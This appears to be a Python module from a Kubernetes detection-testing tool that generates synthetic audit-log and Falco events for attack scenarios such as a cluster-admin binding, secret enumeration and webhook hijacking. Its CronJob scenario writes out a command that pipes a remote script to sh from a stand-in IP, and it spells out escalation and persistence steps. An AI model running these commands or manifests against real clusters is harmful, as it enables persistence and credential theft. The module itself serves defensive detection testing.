"""Attacks seen mainly in the Kubernetes audit log (some also at runtime)."""

from __future__ import annotations

from keelwatch.simulate import manifests
from keelwatch.simulate.api_calls import (
    ADMIN_REASON,
    DEVELOPER_REASON,
    caller,
    created,
    kubectl,
    kubectl_list,
)
from keelwatch.simulate.cluster import KUBECTL_AGENT, Identity, Workload
from keelwatch.simulate.records import API_SERVER_CONTACT, rbac_reason
from keelwatch.simulate.scenarios import Stage, scenario

ATTACKER_AGENT = "kubectl/v1.30.1 (darwin/arm64) kubernetes/6911225"
RBAC = "rbac.authorization.k8s.io"


@scenario(
    "rbac-cluster-admin-binding",
    "ClusterRoleBinding to cluster-admin for a service account",
    ("T1098.006", "T1078"),
    ("audit",),
)
def rbac_escalation(stage: Stage) -> None:
    """A developer with escalate/bind rights binds a namespace service account to cluster-admin."""
    human = stage.developer()
    app = stage.app("http")
    body = manifests.binding(
        "ClusterRoleBinding",
        f"{app.name}-ops",
        "cluster-admin",
        [manifests.subject("ServiceAccount", app.service_account, app.namespace)],
    )
    user = kubectl(
        human, rbac_reason("rbac-managers", "rbac-manager", f'User "{human.identity.username}"')
    )
    stage.audit(0, verb="get", resource="clusterroles", name="cluster-admin", group=RBAC, **user)
    stage.audit(
        4,
        **created("clusterrolebindings", body),
        **user,
        query="fieldManager=kubectl-create&fieldValidation=Strict",
    )


@scenario(
    "secret-enumeration",
    "Secrets listed across namespaces by an unusual user",
    ("T1552.007", "T1613"),
    ("audit",),
)
def secret_enumeration(stage: Stage) -> None:
    """A developer's credentials list secrets cluster-wide, then namespace by namespace."""
    human = stage.developer()
    user = kubectl(human)
    stage.audit(0, **kubectl_list("secrets"), code=403, **user)
    namespaces = [*stage.cluster.namespaces, "kube-system", "monitoring", "cert-manager"]
    for step, namespace in enumerate(namespaces):
        allowed = namespace in stage.cluster.namespaces
        stage.audit(
            3 + step * 1.5,
            **kubectl_list("secrets", namespace),
            code=200 if allowed else 403,
            **kubectl(human, DEVELOPER_REASON),
        )
    secret_ns = stage.cluster.namespaces[0]
    stage.audit(
        5 + len(namespaces) * 1.5,
        verb="get",
        resource="secrets",
        namespace=secret_ns,
        name=f"{secret_ns}-db-credentials",
        **user,
    )


@scenario(
    "cronjob-persistence",
    "CronJob that fetches and runs a script, created by a human",
    ("T1053.007",),
    ("audit", "runtime"),
)
def cronjob_persistence(stage: Stage) -> None:
    """A stolen kubeconfig creates a CronJob in kube-system that pipes a remote script to sh."""
    human = stage.developer()
    ip = stage.public_ip()
    command = ["/bin/sh", "-c", f"curl -fsSL http://{ip}/k.sh | sh"]
    spec = manifests.pod_spec(
        [
            manifests.container(
                "sync", "docker.io/curlimages/curl:8.8.0", command=command, hardened=False
            )
        ],
        restart="OnFailure",
    )
    body = manifests.cronjob("node-cache-sync", "kube-system", "*/5 * * * *", spec)
    stage.audit(
        0, **created("cronjobs", body), **caller(human.identity, ip, ATTACKER_AGENT, ADMIN_REASON)
    )
    job = Workload(
        "node-cache-sync",
        "kube-system",
        "Job",
        "worker",
        "docker.io/curlimages/curl:8.8.0",
        0,
        "default",
    )
    pod = stage.new_pod(
        job, name=f"node-cache-sync-2890{stage.rng.randrange(1000, 9999)}-{stage.ids.suffix(5)}"
    )
    stage.exec(
        31,
        pod,
        binary="/bin/sh",
        arguments=f'-c "curl -fsSL http://{ip}/k.sh | sh"',
        parent_binary="/usr/bin/containerd-shim-runc-v2",
    )


@scenario(
    "admission-webhook-hijack",
    "MutatingWebhookConfiguration pointing outside the cluster",
    ("T1078", "T1552.007"),
    ("audit",),
)
def webhook_hijack(stage: Stage) -> None:
    """An admin token registers a mutating webhook for pods and secrets served from outside."""
    human = stage.admin()
    ip = stage.public_ip()
    body = manifests.mutating_webhook("pod-defaults", f"https://{ip}:8443/mutate")
    stage.audit(
        0,
        **created("mutatingwebhookconfigurations", body),
        **caller(human.identity, ip, ATTACKER_AGENT, ADMIN_REASON),
    )


@scenario(
    "anonymous-access",
    "Anonymous access allowed, then used from the internet",
    ("T1078.001", "T1613"),
    ("audit",),
)
def anonymous_access(stage: Stage) -> None:
    """A binding grants system:unauthenticated a role; anonymous requests then succeed."""
    human = stage.admin()
    body = manifests.binding(
        "ClusterRoleBinding",
        "public-status",
        "view",
        [manifests.subject("Group", "system:unauthenticated")],
    )
    stage.audit(0, **created("clusterrolebindings", body), **kubectl(human, ADMIN_REASON))
    anonymous = caller(
        Identity("system:anonymous", ("system:unauthenticated",)),
        stage.public_ip(),
        "curl/8.5.0",
        rbac_reason("public-status", "view", 'Group "system:unauthenticated"'),
    )
    for step, (resource, namespace) in enumerate(
        (("namespaces", None), ("pods", None), ("configmaps", "kube-system"))
    ):
        stage.audit(60 + step * 2, verb="list", resource=resource, namespace=namespace, **anonymous)


@scenario(
    "forbidden-burst-discovery",
    "Burst of forbidden requests from a compromised pod",
    ("T1613", "T1069"),
    ("audit", "runtime"),
)
def forbidden_burst(stage: Stage) -> None:
    """An intruder in a pod probes what its service account may do: many 403s within a minute."""
    pod = stage.pod("http")
    identity = pod.sa_identity(stage.ids)
    falco_fields = {
        "container.id": pod.container_id[:12],
        "container.name": pod.container,
        "evt.type": "connect",
        "fd.name": f"{pod.ip}:{stage.port()}->{stage.cluster.api_server_ip}:443",
        "k8s.ns.name": pod.namespace,
        "k8s.pod.name": pod.name,
        "proc.cmdline": "kubectl get secrets -A",
        "proc.name": "kubectl",
        "proc.pname": "sh",
        "user.name": "root",
        "user.uid": 0,
    }
    stage.falco(0, API_SERVER_CONTACT, pod, falco_fields)
    probes = (
        ("secrets", None, "list"),
        ("nodes", None, "list"),
        ("clusterroles", None, "list"),
        ("secrets", "kube-system", "list"),
        ("pods", "kube-system", "list"),
        ("namespaces", None, "list"),
        ("clusterrolebindings", None, "list"),
        ("serviceaccounts", "kube-system", "list"),
        ("daemonsets", "kube-system", "list"),
        ("configmaps", "kube-system", "get"),
        ("persistentvolumes", None, "list"),
        ("pods", None, "create"),
    )
    for step, (resource, namespace, verb) in enumerate(probes):
        group = (
            RBAC if resource.startswith("cluster") else ("apps" if resource == "daemonsets" else "")
        )
        stage.audit(
            1 + step * 2.5,
            verb=verb,
            **caller(identity, pod.ip, KUBECTL_AGENT),
            resource=resource,
            namespace=namespace,
            group=group,
            code=403,
            name="kube-proxy" if verb == "get" else None,
        )
